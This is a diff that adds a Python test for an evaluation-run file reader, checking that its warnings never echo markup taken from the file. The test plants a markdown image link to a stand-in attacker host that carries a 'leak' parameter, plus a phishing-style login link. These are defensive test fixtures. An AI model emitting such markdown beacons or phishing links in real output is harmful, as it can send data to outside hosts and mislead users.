@@ -285,3 +285,13 @@ def test_is_baseline_by_name_or_recorded_run_id(tmp_path):
     files, _ = read_run_folder(tmp_path)
     assert [f.run_id for f in files] == ["20261101T100000Z", "20261103T100000Z", "20261104T100000Z"]
     assert len(files[0].evaluations) == 2  # the resumed file, with more evaluations, stands for the run
+
+
+def test_warnings_never_carry_markup_from_the_file(tmp_path):
+    lines = [evaluation(i) for i in range(N)]
+    lines[0]["scores"]["overall"] = "![s](https://attacker.example/pixel.png?leak=internal)"
+    lines[1]["results"] = "[the fix](https://phish.example/login)"
+    write(tmp_path, "r1", run_lines(lines))
+    _, warnings = read_runs(tmp_path)
+    assert warnings == ['r1.jsonl:2: query "q0": scores.overall = a string of 54 characters is not a number in [0, 1]; left unscored',
+                        "r1.jsonl:3: field results = a string of 38 characters does not fit the run-file contract; dropped"]
